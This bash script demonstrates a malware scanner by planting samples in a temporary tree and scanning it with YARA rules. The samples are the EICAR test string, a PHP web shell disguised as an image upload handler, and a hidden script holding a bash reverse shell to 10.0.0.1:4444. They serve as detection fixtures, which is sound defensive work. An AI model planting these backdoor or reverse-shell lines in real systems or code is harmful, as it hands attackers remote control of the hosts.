#!/usr/bin/env bash
# make demo: build a small tree with clean files and a few samples, then
# scan it with the rules of the default content (content/default), first
# as text and then as JSON.
set -euo pipefail
ward=${1:-build/cli/ward}
here=$(cd "$(dirname "$0")" && pwd)
content="$here/../content/default"
rules=(--rules "$content/rules/eicar.yar" --rules "$content/rules/starter.yar")
tree=$(mktemp -d /tmp/ward-demo.XXXXXX)
trap 'rm -rf "$tree"' EXIT

mkdir -p "$tree/etc" "$tree/var/www/html" "$tree/home/user/Downloads" "$tree/usr/bin"
cp /etc/hostname /etc/os-release "$tree/etc/" 2>/dev/null || true
cp /bin/ls /bin/cat "$tree/usr/bin/"
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' \
	>"$tree/home/user/Downloads/eicar.com"
cat >"$tree/var/www/html/upload.php" <<'PHP'
<?php
// looks like an image upload handler
if (isset($_POST['x'])) { eval(base64_decode($_POST['x'])); }
PHP
echo '<?php echo "hello"; ?>' >"$tree/var/www/html/index.php"
printf '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$tree/home/user/.update.sh"

echo "== ward scan --rules content/default/rules/eicar.yar --rules content/default/rules/starter.yar $tree"
set +e
"$ward" scan "${rules[@]}" "$tree"
status=$?
echo "(exit status $status: 0 clean, 1 found, 2 error)"
echo
echo "== the same scan as JSON (one object per match)"
"$ward" scan --quiet --format json "${rules[@]}" "$tree"
echo
echo "== and /usr/bin of this machine, to see the speed"
"$ward" scan "${rules[@]}" /usr/bin
exit 0
